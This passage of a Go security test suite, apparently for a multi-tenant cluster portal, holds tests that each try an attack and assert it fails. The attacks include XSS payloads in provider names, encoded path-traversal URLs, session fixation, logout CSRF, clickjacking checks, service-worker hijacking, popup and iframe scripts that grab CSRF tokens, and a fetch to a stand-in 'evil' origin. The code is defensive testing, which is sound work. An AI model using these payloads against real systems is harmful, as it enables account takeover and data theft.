					t.Logf("then=%q: still at %s after 30s", v, loc)
				}
				break
			}
			time.Sleep(300 * time.Millisecond)
		}
	}
}

func (a *attackEnv) workspaceCookie(t *testing.T) {
	probe := "/services/providers/portalprobe/headers"
	type res struct {
		code int
		body string
	}
	try := func(ws string, viaCookie bool) res {
		var hdr = map[string]string{}
		cs := []*http.Cookie{sessionCookie(a.alice.cookie)}
		if viaCookie {
			cs = append(cs, &http.Cookie{Name: "__Host-wharf_workspace", Value: ws})
		} else {
			hdr["X-Wharf-Workspace"] = ws
		}
		code, body, _ := a.do(t, "GET", probe, "", hdr, cs...)
		return res{code, body}
	}
	own := try(a.aliceW.Home.Path, true)
	if own.code != 200 {
		t.Fatalf("alice's own workspace through the cookie: %d %s", own.code, own.body)
	}
	bobC := a.bobW.cluster(a.bobW.Home.Path)
	for _, viaCookie := range []bool{true, false} {
		for _, ws := range []string{a.bobW.Home.Path, bobC, a.secret, a.secretC, a.bobW.Home.Path + ":..", "root", "*", "root:users"} {
			r := try(ws, viaCookie)
			if r.code != http.StatusForbidden {
				t.Errorf("ATTACK SUCCEEDED? backend proxy as alice in %q (cookie %v): %d %.200s, want 403", ws, viaCookie, r.code, r.body)
			}
		}
		missing := try("root:no-such-ws", viaCookie)
		other := try(a.bobW.Home.Path, viaCookie)
		if missing.code != other.code || strings.ReplaceAll(missing.body, "root:no-such-ws", "X") != strings.ReplaceAll(other.body, a.bobW.Home.Path, "X") {
			t.Errorf("bob's home and a missing workspace answer differently (cookie %v): %d %q vs %d %q", viaCookie, other.code, other.body, missing.code, missing.body)
		}
	}
	// Header and cookie both: the header wins only as itself, never lets the cookie escalate.
	code, body, _ := a.do(t, "GET", probe, "", map[string]string{"X-Wharf-Workspace": a.aliceW.Home.Path + ", " + a.bobW.Home.Path}, sessionCookie(a.alice.cookie))
	if code == 200 && strings.Contains(body, a.bobW.Home.Path) {
		t.Errorf("ATTACK SUCCEEDED: a two-valued X-Wharf-Workspace reached bob's home: %s", body)
	}
}

var injections = []string{
	`x"><img src=x onerror="window.__pwn=1">`,
	`<script>window.__pwn=1</script>`,
	`portalprobe onclick=alert(1)`,
	`portalprobe></wharf-provider-portalprobe><img src=x onerror=alert(1)>`,
	`hello'><svg onload=alert(1)>`,
	`portalprobe/../hello`,
	`PortalProbe`,
	`a-b-c d`,
	`x\u003cimg`,
}

func (a *attackEnv) nameInjection(t *testing.T) {
	for _, inj := range injections {
		path := "/ui/providers/" + url.PathEscape(inj) + "/?ws=" + url.QueryEscape(a.aliceW.Home.Path)
		code, body, h := a.do(t, "GET", path, "", map[string]string{"Accept": "text/html", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "document"}, sessionCookie(a.alice.cookie))
		csp := h.Get("Content-Security-Policy")
		if code == 200 && (csp == "" || strings.Contains(csp, "unsafe-inline") || strings.Contains(csp, "unsafe-eval")) {
			t.Errorf("page for provider %q has a weak CSP %q", inj, csp)
		}
		for _, bad := range []string{"<img", "<svg", "<script>window", "onerror=", "onclick="} {
			if strings.Contains(body, bad) {
				t.Errorf("ATTACK SUCCEEDED? provider name %q reflected as markup %q into the shell document", inj, bad)
			}
		}
	}
}

func (a *attackEnv) elementInjection(t *testing.T) {
	b := a.b.in(t)
	for _, inj := range injections {
		b.do("open provider "+inj, chromedp.Navigate(a.hub.URL+"/ui/providers/"+url.PathEscape(inj)+"/?ws="+url.QueryEscape(a.aliceW.Home.Path)))
		time.Sleep(1500 * time.Millisecond)
		got := eval[string](b, `(() => {
			const out = [];
			if (window.__pwn) out.push("__pwn set");
			for (const el of document.querySelectorAll("*")) {
				for (const at of el.attributes) if (/^on/i.test(at.name)) out.push(el.localName + " has " + at.name);
				if (el.localName.startsWith("wharf-provider-") && !/^wharf-provider-[a-z0-9-]+$/.test(el.localName)) out.push("element " + el.localName);
				if (el.localName === "img" || el.localName === "svg" && el.getAttribute("onload")) out.push("injected " + el.localName);
			}
			return out.join("; ");
		})()`)
		if got != "" {
			t.Errorf("ATTACK SUCCEEDED: provider name %q: %s", inj, got)
		}
		// hello is not enabled in alice's home: its element must not mount
		// there through a path trick.
		if n := eval[int](b, `document.querySelectorAll("wharf-provider-hello").length`); n > 0 && strings.Contains(inj, "hello") {
			t.Errorf("provider name %q mounted hello's element in a workspace without it", inj)
		}
	}
}

func (a *attackEnv) clickjacking(t *testing.T) {
	nav := map[string]string{"Accept": "text/html", "Sec-Fetch-Mode": "navigate", "Sec-Fetch-Dest": "iframe", "Sec-Fetch-Site": "cross-site"}
	for _, signedIn := range []bool{false, true} {
		for _, p := range []string{"/", "/ui/", "/ui/catalog", "/ui/providers/portalprobe/", "/ui/providers/portalprobe/x/y", "/ui/nope", "/ui/providers/no-such/", "/auth/session", "/ui/providers/portalprobe/main.js", "/ui/providers/portalprobe/sw.js"} {
			var cs []*http.Cookie
			if signedIn {
				cs = append(cs, sessionCookie(a.alice.cookie))
			}
			code, body, h := a.do(t, "GET", p, "", nav, cs...)
			ct := h.Get("Content-Type")
			framable := !strings.Contains(h.Get("Content-Security-Policy"), "frame-ancestors 'none'") && !strings.EqualFold(h.Get("X-Frame-Options"), "DENY")
			if strings.Contains(ct, "html") && framable {
				t.Errorf("ATTACK SUCCEEDED: %s (signed in %v) is HTML that may be framed: %d CSP %q XFO %q", p, signedIn, code, h.Get("Content-Security-Policy"), h.Get("X-Frame-Options"))
			}
			if signedIn && strings.Contains(body, a.alice.csrf) && strings.Contains(ct, "html") {
				t.Errorf("ATTACK SUCCEEDED: an iframe navigation of %s got the CSRF token", p)
			}
		}
	}
}

func (a *attackEnv) malSA(t *testing.T, name string) string {
	home := a.malW.Home.Path
	hdr := map[string]string{"Authorization": "Bearer " + attackTokens["mallory"], "Content-Type": "application/json"}
	if code, b, _ := a.do(t, "POST", "/clusters/"+home+"/api/v1/namespaces/default/serviceaccounts", `{"apiVersion":"v1","kind":"ServiceAccount","metadata":{"name":"`+name+`"}}`, hdr); code != 201 {
		t.Fatalf("mallory creates SA: %d %s", code, b)
	}
	code, b, _ := a.do(t, "POST", "/clusters/"+home+"/api/v1/namespaces/default/serviceaccounts/"+name+"/token", `{"apiVersion":"authentication.k8s.io/v1","kind":"TokenRequest","spec":{"expirationSeconds":600}}`, hdr)
	if code != 201 {
		t.Fatalf("mallory mints a token: %d %s", code, b)
	}
	var tr struct {
		Status struct{ Token string } `json:"status"`
	}
	_ = json.Unmarshal([]byte(b), &tr)
	return tr.Status.Token
}

func (a *attackEnv) delMalSA(t *testing.T, name string) {
	code, b, _ := a.do(t, "DELETE", "/clusters/"+a.malW.Home.Path+"/api/v1/namespaces/default/serviceaccounts/"+name, "", map[string]string{"Authorization": "Bearer " + attackTokens["mallory"]})
	if code != 200 {
		t.Fatalf("delete SA: %d %s", code, b)
	}
}

func (a *attackEnv) tokenForm(t *testing.T, token string) (int, string) {
	code, body, h := a.do(t, "POST", "/auth/token-session", "token="+url.QueryEscape(token),
		map[string]string{"Content-Type": "application/x-www-form-urlencoded", "Origin": a.hub.URL})
	return code, setCookie(h, "__Host-wharf_session") + "|" + body
}

func (a *attackEnv) deletedSAToken(t *testing.T) {
	tok := a.malSA(t, "gone")
	a.delMalSA(t, "gone")
	code, rest := a.tokenForm(t, tok)
	if code/100 == 2 || !strings.HasPrefix(rest, "|") {
		t.Errorf("ATTACK SUCCEEDED: a deleted SA's token signed in: %d %s", code, rest)
	}
	// A token for another audience, and a truncated one.
	for _, bad := range []string{tok[:len(tok)-5], tok + "x", "Bearer " + attackTokens["alice"], attackTokens["alice"] + "x"} {
		if code, rest := a.tokenForm(t, bad); code/100 == 2 && !strings.HasPrefix(bad, "Bearer") {
			t.Errorf("ATTACK SUCCEEDED? token form accepted %q: %d %s", bad, code, rest)
		}
	}
}

func (a *attackEnv) saSessionOutlives(t *testing.T) {
	tok := a.malSA(t, "ci")
	code, rest := a.tokenForm(t, tok)
	if code/100 != 2 {
		t.Logf("the token form refuses service-account tokens outright (%d): nothing can outlive", code)
		return
	}
	cookie := strings.SplitN(rest, "|", 2)[0]
	if c := getWithCookie(t, a.env, "/api/whoami", cookie); c != 200 {
		t.Fatalf("SA session before deletion: %d", c)
	}
	a.delMalSA(t, "ci")
	eventually(t, 10*time.Second, func() error {
		if c := getWithCookie(t, a.env, "/api/whoami", cookie); c != 401 {
			return fmt.Errorf("ATTACK SUCCEEDED: the SA's browser session answers %d after the SA was deleted, want 401", c)
		}
		return nil
	})
	if c := getWithCookie(t, a.env, "/clusters/"+a.malW.Home.Path+"/api/v1/namespaces", cookie); c != 401 && c != 403 {
		t.Errorf("ATTACK SUCCEEDED: the dead SA's session still lists namespaces: %d", c)
	}
}

func (a *attackEnv) fixation(t *testing.T) {
	fresh := a.tokenSession(t, attackTokens["mallory"], nil)
	signed := a.tokenSession(t, attackTokens["bob"], []*http.Cookie{sessionCookie(fresh.cookie)})
	if signed.cookie == fresh.cookie {
		t.Fatal("ATTACK SUCCEEDED: signing in kept the presented session cookie")
	}
	var w whoami
	a.getJSON(t, "/api/whoami", map[string]string{"Cookie": "__Host-wharf_session=" + fresh.cookie}, &w)
	if w.User != "mallory" {
		t.Errorf("ATTACK SUCCEEDED: mallory's fixed cookie now is %q", w.User)
	}
	if signed.csrf == fresh.csrf {
		t.Error("ATTACK SUCCEEDED: the CSRF token did not change with the session")
	}
	// A non-__Host- cookie of the same name (a subdomain or http could set it).
	code, _, _ := a.do(t, "GET", "/api/whoami", "", map[string]string{"Cookie": "wharf_session=" + fresh.cookie + "; __Host-wharf_session_=" + fresh.cookie})
	if code != 401 {
		t.Errorf("a session under another cookie name was accepted: %d", code)
	}
}

func (a *attackEnv) signoutReplay(t *testing.T) {
	s := a.tokenSession(t, attackTokens["bob"], nil)
	code, _, _ := a.do(t, "POST", "/auth/logout", "", map[string]string{"Origin": a.hub.URL, "X-Wharf-CSRF": s.csrf}, sessionCookie(s.cookie))
	if code/100 != 2 {
		t.Fatalf("logout: %d", code)
	}
	if c := getWithCookie(t, a.env, "/api/whoami", s.cookie); c != 401 {
		t.Errorf("ATTACK SUCCEEDED: the signed-out cookie replayed gets %d", c)
	}
	code, _, _ = a.do(t, "POST", a.wsCollection(a.bobW.Home.Path), wsJSON("after-logout"), map[string]string{"Content-Type": "application/json", "Origin": a.hub.URL, "X-Wharf-CSRF": s.csrf}, sessionCookie(s.cookie))
	if code/100 == 2 || a.exists(t, a.bobW.Home.Path, "after-logout") {
		t.Errorf("ATTACK SUCCEEDED: a write with the signed-out cookie and its CSRF token: %d", code)
	}
	// The shell's own sign-out in a browser ends the session server-side too.
	b := newBrowser(t, a.env).in(t)
	b.do("open", chromedp.Navigate(a.hub.URL+"/ui/"))
	b.waitState("signin")
	b.do("sign in as bob", chromedp.SendKeys(tid("signin-token-input"), attackTokens["bob"]), chromedp.Click(tid("signin-token-submit")))
	b.waitState("ready")
	c := cookieValue(b, "__Host-wharf_session")
	b.do("sign out", chromedp.Click(tid("signout")))
	b.waitState("signin")
	if code := getWithCookie(t, a.env, "/api/whoami", c); code != 401 {
		t.Errorf("ATTACK SUCCEEDED: the shell's sign-out left the session valid (%d)", code)
	}
}

func (a *attackEnv) logoutCSRF(t *testing.T) {
	s := a.tokenSession(t, attackTokens["bob"], nil)
	for _, hdr := range []map[string]string{
		{"Origin": a.evil, "Content-Type": "application/x-www-form-urlencoded"},
		{"Origin": a.evil, "X-Wharf-CSRF": s.csrf},
		{"Sec-Fetch-Site": "cross-site"},
		{"Origin": a.hub.URL},
	} {
		a.do(t, "POST", "/auth/logout", "", hdr, sessionCookie(s.cookie))
		a.do(t, "GET", "/auth/logout", "", hdr, sessionCookie(s.cookie))
		if c := getWithCookie(t, a.env, "/api/whoami", s.cookie); c != 200 {
			t.Errorf("ATTACK SUCCEEDED: logout CSRF with %v ended bob's session (whoami %d)", hdr, c)
			s = a.tokenSession(t, attackTokens["bob"], nil)
		}
	}
}

func (a *attackEnv) traversal(t *testing.T) {
	sec := "clusters/root:secret/api/v1/namespaces/default/configmaps"
	paths := []string{
		"/ui/providers/portalprobe/../../../" + sec,
		"/ui/providers/portalprobe/%2e%2e/%2e%2e/%2e%2e/" + sec,
		"/ui/providers/portalprobe/..%2f..%2f..%2f" + strings.ReplaceAll(sec, "/", "%2f"),
		"/ui/providers/portalprobe/..%5c..%5c..%5c" + sec,
		"/ui/providers/portalprobe/..\\..\\..\\" + sec,
		"/ui/providers/portalprobe/%252e%252e/%252e%252e/%252e%252e/" + sec,
		"/ui/providers/..%2f" + sec,
		"/services/providers/portalprobe/../../../" + sec,
		"/services/providers/portalprobe/%2e%2e/%2e%2e/%2e%2e/" + sec,
		"/services/providers/portalprobe/..%2f..%2f..%2f" + sec,
		"/services/providers/portalprobe/..;/..;/..;/" + sec,
		"//clusters/root:secret/api/v1/namespaces/default/configmaps",
		"/clusters/root:secret/../root:secret/api/v1/namespaces/default/configmaps",
		"/clusters/" + url.PathEscape(a.aliceW.Home.Path) + "/../root:secret/api/v1/namespaces/default/configmaps",
		"/clusters/" + a.aliceW.Home.Path + "%2f..%2froot:secret/api/v1/namespaces/default/configmaps",
	}
	for _, p := range paths {
		for _, hdr := range []map[string]string{{}, {"X-Wharf-Workspace": a.aliceW.Home.Path}} {
			code, body, _ := a.do(t, "GET", p, "", hdr, sessionCookie(a.alice.cookie))
			if strings.Contains(body, a.canary) || strings.Contains(body, "ConfigMapList") {
				t.Errorf("ATTACK SUCCEEDED: %s as alice: %d %.300s", p, code, body)
			}
		}
	}
	// To hello's backend (not enabled in alice's home) through portalprobe's route.
	for _, p := range []string{
		"/services/providers/portalprobe/../hello/whoami",
		"/services/providers/portalprobe/%2e%2e/hello/whoami",
		"/services/providers/portalprobe/..%2fhello%2fwhoami",
		"/services/providers/portalprobe%2f..%2fhello/whoami",
		"/services/providers/hello/whoami",
	} {
		code, body, _ := a.do(t, "GET", p, "", map[string]string{"X-Wharf-Workspace": a.aliceW.Home.Path}, sessionCookie(a.alice.cookie))
		if code == 200 && strings.Contains(body, `"user"`) {
			t.Errorf("ATTACK SUCCEEDED: %s reached hello's backend in a workspace without it: %.200s", p, body)
		}
	}
	// Writes through the provider route reach only portalprobe's backend, never the hub API.
	code, _, _ := a.do(t, "POST", "/services/providers/portalprobe/../../../"+strings.TrimPrefix(a.wsCollection(a.aliceW.Home.Path), "/"), wsJSON("trav-write"),
		map[string]string{"Content-Type": "application/json", "X-Wharf-Workspace": a.aliceW.Home.Path}, sessionCookie(a.alice.cookie))
	if a.exists(t, a.aliceW.Home.Path, "trav-write") {
		t.Errorf("ATTACK SUCCEEDED: a CSRF-less write through ../ created a workspace (%d)", code)
	}
}

func (a *attackEnv) treeLeak(t *testing.T) {
	var w map[string]any
	a.getJSON(t, "/api/whoami", map[string]string{"Cookie": "__Host-wharf_session=" + a.alice.cookie}, &w)
	raw, _ := json.Marshal(w)
	for _, leak := range []string{a.secret, a.secretC, "hidden-child", a.bobW.Home.Path, a.malW.Home.Path, `"root"`} {
		if strings.Contains(string(raw), leak) {
			t.Errorf("ATTACK SUCCEEDED: alice's whoami names %q: %s", leak, raw)
		}
	}
	for _, ws := range []string{"root", a.secret, "root:users", a.bobW.Home.Path, "*"} {
		code, body, _ := a.do(t, "GET", a.wsCollection(ws), "", nil, sessionCookie(a.alice.cookie))
		if code == 200 || strings.Contains(body, "hidden-child") || (ws != a.bobW.Home.Path && strings.Contains(body, a.bobW.Home.Path)) {
			t.Errorf("ATTACK SUCCEEDED: alice lists workspaces in %s: %d %.200s", ws, code, body)
		}
	}
	// The overview of an invisible workspace in the browser, with its id too.
	b := a.b.in(t)
	for _, ws := range []string{a.secret, a.secretC, "root"} {
		b.do("open "+ws, chromedp.Navigate(a.hub.URL+"/ui/?ws="+url.QueryEscape(ws)))
		time.Sleep(2 * time.Second)
		text := eval[string](b, `document.body.innerText + document.documentElement.outerHTML`)
		for _, leak := range []string{"hidden-child", a.bobW.Home.Path, a.malW.Home.Path, a.canary} {
			if strings.Contains(text, leak) {
				t.Errorf("ATTACK SUCCEEDED: the overview of %s shows %q", ws, leak)
			}
		}
		if ws == a.secretC && strings.Contains(text, a.secret) {
			t.Errorf("ATTACK SUCCEEDED: the overview of id %s names its path %s", ws, a.secret)
		}
	}
	b.shot("invisible-overview")
	// The catalog's live watch of another workspace's bindings.
	code, body, _ := a.do(t, "GET", "/clusters/"+a.secret+"/apis/providers.wharf.dev/v1alpha1/providerbindings", "", nil, sessionCookie(a.alice.cookie))
	if code == 200 {
		t.Errorf("ATTACK SUCCEEDED: alice lists root:secret's provider bindings: %.200s", body)
	}
}

func (a *attackEnv) wharf(t *testing.T, stdin, kubeconfig string, args ...string) (string, int) {
	cmd := exec.Command(testutil.Binary(t, "wharf"), append(args, "--kubeconfig", kubeconfig)...)
	cmd.Stdin = strings.NewReader(stdin)
	var out bytes.Buffer
	cmd.Stdout, cmd.Stderr = &out, &out
	err := cmd.Run()
	code := 0
	if ee, ok := err.(*exec.ExitError); ok {
		code = ee.ExitCode()
	} else if err != nil {
		t.Fatal(err)
	}
	return out.String(), code
}

func (a *attackEnv) aliceKubeconfig(t *testing.T) string {
	kc := filepath.Join(t.TempDir(), "alice.kubeconfig")
	if out, code := a.wharf(t, attackTokens["alice"], kc, "login", a.hub.URL, "--token-stdin", "--certificate-authority", a.hub.CAFile); code != 0 {
		t.Fatalf("wharf login: %d %s", code, out)
	}
	return kc
}

func (a *attackEnv) wsUse(t *testing.T) {
	kc := a.aliceKubeconfig(t)
	before, _ := os.ReadFile(kc)
	norm := func(s, name string) string { return strings.ReplaceAll(s, name, "X") }
	pairs := [][2]string{
		{a.secret, "root:no-such-ws"},
		{a.secretC, "zzzzzzzzzzzzzzzz"},
		{a.bobW.Home.Path, "root:users:no-such-home"},
		{a.secret + ":hidden-child", a.secret + ":no-such-child"},
		{"root:secret:hidden-child:..", "root:no-such-ws:.."},
	}
	for _, p := range pairs {
		o1, c1 := a.wharf(t, "", kc, "ws", "use", p[0])
		o2, c2 := a.wharf(t, "", kc, "ws", "use", p[1])
		if c1 != 1 || c2 != 1 {
			t.Errorf("ATTACK SUCCEEDED? wharf ws use %s → %d %q; %s → %d %q; want exit 1 both", p[0], c1, o1, p[1], c2, o2)
		}
		if norm(o1, p[0]) != norm(o2, p[1]) {
			t.Errorf("ATTACK SUCCEEDED: wharf ws use tells invisible %s (%q) from missing %s (%q)", p[0], o1, p[1], o2)
		}
		if strings.Contains(o1, "hidden-child") && !strings.Contains(p[0], "hidden-child") {
			t.Errorf("wharf ws use leaks a child name: %q", o1)
		}
		if after, _ := os.ReadFile(kc); !bytes.Equal(before, after) {
			t.Errorf("wharf ws use %s changed the kubeconfig", p[0])
			before = after
		}
	}
	out, _ := a.wharf(t, "", kc, "ws", "tree")
	for _, leak := range []string{a.secret, "hidden-child", a.bobW.Home.Path} {
		if strings.Contains(out, leak) {
			t.Errorf("ATTACK SUCCEEDED: wharf ws tree shows %q:\n%s", leak, out)
		}
	}
}

func (a *attackEnv) wsDelete(t *testing.T) {
	kc := a.aliceKubeconfig(t)
	bobParent, bobName := splitWS(a.bobW.Home.Path)
	for _, target := range []string{a.secret, a.bobW.Home.Path, "root:secret:hidden-child", "../../secret", "../" + bobName} {
		out, code := a.wharf(t, "", kc, "ws", "delete", target)
		if code == 0 {
			t.Errorf("wharf ws delete %s exited 0: %s", target, out)
		}
	}
	// Over HTTP with the cookie and a valid CSRF token: RBAC still says no.
	for _, tgt := range [][2]string{{"root", "secret"}, {bobParent, bobName}, {a.secret, "hidden-child"}} {
		code, body, _ := a.do(t, "DELETE", a.wsCollection(tgt[0])+"/"+tgt[1], "", map[string]string{"Origin": a.hub.URL, "X-Wharf-CSRF": a.alice.csrf}, sessionCookie(a.alice.cookie))
		if code/100 == 2 {
			t.Errorf("ATTACK SUCCEEDED: alice's cookie deleted %s:%s: %d %.200s", tgt[0], tgt[1], code, body)
		}
	}
	for _, tgt := range [][2]string{{"root", "secret"}, {bobParent, bobName}, {a.secret, "hidden-child"}} {
		code, b, _ := a.do(t, "GET", a.wsCollection(tgt[0])+"/"+tgt[1], "", map[string]string{"Authorization": "Bearer " + a.hub.AdminToken})
		if code != 200 || strings.Contains(b, "deletionTimestamp") {
			t.Errorf("ATTACK SUCCEEDED: %s:%s is gone or terminating: %d", tgt[0], tgt[1], code)
		}
	}
}

func splitWS(p string) (string, string) {
	i := strings.LastIndex(p, ":")
	return p[:i], p[i+1:]
}

// probePage opens portalprobe in alice's home and waits for its element.
func (a *attackEnv) probePage(t *testing.T) *browser {
	b := a.b.in(t)
	b.do("open portalprobe", chromedp.Navigate(a.hub.URL+"/ui/providers/portalprobe/?ws="+url.QueryEscape(a.aliceW.Home.Path)))
	b.waitState("ready")
	b.do("probe mounted", chromedp.WaitReady(tid("probe-report")))
	return b
}

func (a *attackEnv) apiFetchEscape(t *testing.T) {
	b := a.probePage(t)
	eval[bool](b, trap)
	home := a.aliceW.Home.Path
	coll := a.wsCollection(home)
	hubU, _ := url.Parse(a.hub.URL)
	type try struct{ name, expr string }
	mk := func(n string) string { return jsString(wsJSON(n)) }
	tries := []try{
		{"api-direct", `api.fetch(` + jsString(coll) + `, {method: "POST", headers: {"Content-Type": "application/json"}, body: ` + mk("api-direct") + `})`},
		{"api-dotdot", `api.fetch("/services/providers/portalprobe/../../.." + ` + jsString(coll) + `, {method: "POST", headers: {"Content-Type": "application/json"}, body: ` + mk("api-dotdot") + `})`},
		{"api-backslash", `api.fetch("/services/providers/portalprobe/..\\..\\..\\" + ` + jsString(strings.TrimPrefix(coll, "/")) + `, {method: "POST", headers: {"Content-Type": "application/json"}, body: ` + mk("api-backslash") + `})`},
		{"api-enc", `api.fetch("/services/providers/portalprobe/%2e%2e/%2e%2e/%2e%2e" + ` + jsString(coll) + `, {method: "POST", headers: {"Content-Type": "application/json"}, body: ` + mk("api-enc") + `})`},
		{"api-enc2", `api.fetch("/services/providers/portalprobe%2f..%2f..%2f.." + ` + jsString(coll) + `, {method: "POST", headers: {"Content-Type": "application/json"}, body: ` + mk("api-enc2") + `})`},
		{"api-abs", `api.fetch(` + jsString(a.hub.URL+"/services/providers/portalprobe/../../.."+coll) + `, {method: "POST", headers: {"Content-Type": "application/json"}, body: ` + mk("api-abs") + `})`},
		{"api-proto", `api.fetch(` + jsString("//"+hubU.Host+"/services/providers/portalprobe/../../.."+coll) + `, {method: "POST", headers: {"Content-Type": "application/json"}, body: ` + mk("api-proto") + `})`},
		{"api-tab", `api.fetch("/services/providers/portalprobe/.\t./.\t./.\t." + ` + jsString(coll) + `, {method: "POST", headers: {"Content-Type": "application/json"}, body: ` + mk("api-tab") + `})`},
		{"api-tostring", `(() => { let n = 0; const u = { toString() { return n++ === 0 ? "/services/providers/portalprobe/headers" : ` + jsString(coll) + `; } }; return api.fetch(u, {method: "POST", headers: {"Content-Type": "application/json"}, body: ` + mk("api-tostring") + `}); })()`},
		{"api-request", `api.fetch(new Request(` + jsString(coll) + `, {method: "POST", headers: {"Content-Type": "application/json"}, body: ` + mk("api-request") + `}))`},
		{"api-request-safeurl", `api.fetch(new Request(` + jsString(coll) + `, {method: "POST", headers: {"Content-Type": "application/json"}, body: ` + mk("api-request-safeurl") + `}), {})`},
		{"api-url-obj", `api.fetch(new URL("/services/providers/portalprobe/../../.." + ` + jsString(coll) + `, location.href), {method: "POST", headers: {"Content-Type": "application/json"}, body: ` + mk("api-url-obj") + `})`},
		{"api-method-obj", `(() => { let n = 0; const m = { toString() { return n++ < 1 ? "GET" : "POST"; } }; return api.fetch(` + jsString(coll) + `, {method: m, headers: {"Content-Type": "application/json"}, body: ` + mk("api-method-obj") + `}); })()`},
		{"api-init-getter", `(() => { let n = 0; const init = { headers: {"Content-Type": "application/json"}, body: ` + mk("api-init-getter") + ` }; Object.defineProperty(init, "method", { get() { return n++ < 1 ? "GET" : "POST"; } }); return api.fetch(` + jsString(coll) + `, init); })()`},
		{"api-evil-origin", `api.fetch(` + jsString(a.evil+"/collect") + `, {method: "POST", body: "x"})`},
		{"api-other-provider", `api.fetch("/services/providers/hello/whoami", {method: "POST", body: "x"})`},
		{"api-own-then-other", `api.fetch("/services/providers/portalprobe/headers?next=" + encodeURIComponent(` + jsString(coll) + `), {method: "POST", body: "x"})`},
	}
	a.setEvil("ok")
	results := map[string]string{}
	for _, tr := range tries {
		expr := `(async () => { const api = document.querySelector("wharf-provider-portalprobe").api; try { const r = await ` + tr.expr + `; let body = ""; try { body = await r.text(); } catch (e) {} return r.status + " " + body.slice(0, 300); } catch (e) { return "refused: " + e; } })()`
		results[tr.name] = eval[string](b, expr)
	}
	time.Sleep(time.Second)
	for _, tr := range tries {
		t.Logf("%s → %s", tr.name, results[tr.name])
		if strings.HasPrefix(tr.name, "api-") && !strings.Contains(tr.name, "evil") && !strings.Contains(tr.name, "other") && a.exists(t, home, tr.name) {
			t.Errorf("ATTACK SUCCEEDED: provider api.fetch %s created a workspace in alice's home (%s)", tr.name, results[tr.name])
		}
	}
	// The backend echo of api-own-then-other shows what portalprobe's backend got; that is legitimate.
	// What the page's wrappers saw: never the CSRF token.
	seen := eval[[]string](b, `window.__seen`)
	a.noSecret(t, "wrappers around api.fetch", strings.Join(seen, "\n"))
	a.evilMu.Lock()
	for _, h := range a.evilSaw {
		if h.Get("X-Wharf-CSRF") != "" || h.Get("Cookie") != "" {
			t.Errorf("ATTACK SUCCEEDED: the evil origin received %v", h)
		}
	}
	a.evilMu.Unlock()
	if strings.HasPrefix(results["api-other-provider"], "200") {
		t.Errorf("ATTACK SUCCEEDED: api.fetch wrote to hello's backend: %s", results["api-other-provider"])
	}
}

func (a *attackEnv) serviceWorker(t *testing.T) {
	// Over HTTP: is sw.js served as a script a worker would accept?
	code, _, h := a.do(t, "GET", "/ui/providers/portalprobe/sw.js", "", map[string]string{"Service-Worker": "script", "Sec-Fetch-Dest": "serviceworker", "Sec-Fetch-Mode": "same-origin"}, sessionCookie(a.alice.cookie))
	t.Logf("sw.js as a service worker script: %d %s", code, h.Get("Content-Type"))
	if code == http.StatusOK {
		t.Errorf("ATTACK SUCCEEDED: the hub serves a provider's file as a service worker script (%d)", code)
	}
	b := a.probePage(t)
	reg := eval[string](b, `navigator.serviceWorker.register("/ui/providers/portalprobe/sw.js", {scope: "/ui/providers/portalprobe/"}).then(r => new Promise(res => { const w = r.installing || r.waiting || r.active; if (!w || w.state === "activated") return res("registered " + r.scope); w.addEventListener("statechange", () => { if (w.state === "activated" || w.state === "redundant") res(w.state + " " + r.scope); }); setTimeout(() => res("timeout " + (w && w.state)), 10000); })).catch(e => "refused: " + e)`)
	t.Logf("service worker registration: %s", reg)
	// Even without the token, a provider's worker would outlive the
	// session and the provider's enablement and answer the portal's
	// navigations under its path: a fake sign-in form in the hub's origin.
	if !strings.HasPrefix(reg, "refused") {
		t.Errorf("ATTACK SUCCEEDED: a provider registered a service worker over its portal pages: %s", reg)
	}
	b.do("navigate under the worker's scope", chromedp.Navigate(a.hub.URL+"/ui/providers/portalprobe/again?ws="+url.QueryEscape(a.aliceW.Home.Path)))
	b.waitState("ready")
	loot := eval[string](b, `caches.open("portalprobe-loot").then(c => c.match("/ui/providers/portalprobe/loot.txt")).then(r => r ? r.text() : "").catch(e => "no caches: " + e)`)
	t.Logf("the worker kept %d bytes", len(loot))
	a.noSecret(t, "a provider's service worker", loot)
	if strings.Contains(loot, `name="wharf-csrf" content="`) && !strings.Contains(loot, `name="wharf-csrf" content=""`) {
		t.Errorf("ATTACK SUCCEEDED: the service worker read a non-empty CSRF meta")
	}
	_ = eval[bool](b, `navigator.serviceWorker.getRegistrations().then(rs => Promise.all(rs.map(r => r.unregister()))).then(() => true).catch(() => true)`)
}

func (a *attackEnv) popupRace(t *testing.T) {
	b := a.toHome(t)
	eval[bool](b, `(() => {
		window.__loot = [];
		const btn = document.createElement("button"); btn.id = "pwn-open"; btn.textContent = "open"; btn.style = "position:fixed;top:0;left:0;z-index:99999";
		btn.addEventListener("click", () => {
			const w = window.open("/ui/?ws=`+url.QueryEscape(a.aliceW.Home.Path)+`", "_blank");
			window.__popup = !!w;
			if (!w) return;
			const grab = () => { try { const d = w.document; const m = d.querySelector('meta[name="wharf-csrf"]'); if (m) window.__loot.push(m.getAttribute("content")); window.__loot.push(d.documentElement ? d.documentElement.outerHTML.slice(0, 4000) : ""); } catch (e) { window.__loot.push("err " + e); } };
			const start = Date.now();
			const spin = () => { grab(); if (Date.now() - start < 6000) { setTimeout(spin, 0); } };
			spin();
			const mo = setInterval(grab, 1); setTimeout(() => clearInterval(mo), 6000);
		});
		document.body.appendChild(btn);
		return true;
	})()`)
	b.do("click the opener", chromedp.Click("#pwn-open"))
	time.Sleep(7 * time.Second)
	opened := eval[bool](b, `!!window.__popup`)
	loot := eval[[]string](b, `window.__loot.filter(x => x)`)
	t.Logf("popup opened %v, %d grabs", opened, len(loot))
	a.noSecret(t, "a popup of the shell read by its opener", strings.Join(loot, "\n"))
}

func (a *attackEnv) frameRead(t *testing.T) {
	b := a.toHome(t)
	loot := eval[string](b, `new Promise(res => {
		const out = [];
		const f = document.createElement("iframe"); f.src = "/ui/?ws=`+url.QueryEscape(a.aliceW.Home.Path)+`";
		const o = document.createElement("object"); o.data = "/ui/catalog";
		const grab = () => { for (const el of [f, o]) { try { const d = el.contentDocument; if (d) out.push(d.documentElement.outerHTML.slice(0, 4000)); } catch (e) { out.push("err " + e); } } };
		const iv = setInterval(grab, 2);
		document.body.appendChild(f); document.body.appendChild(o);
		setTimeout(() => { clearInterval(iv); grab(); res(out.join("\n")); }, 4000);
	})`)
	a.noSecret(t, "a same-origin iframe/object of the shell", loot)
}

func (a *attackEnv) cors(t *testing.T) {
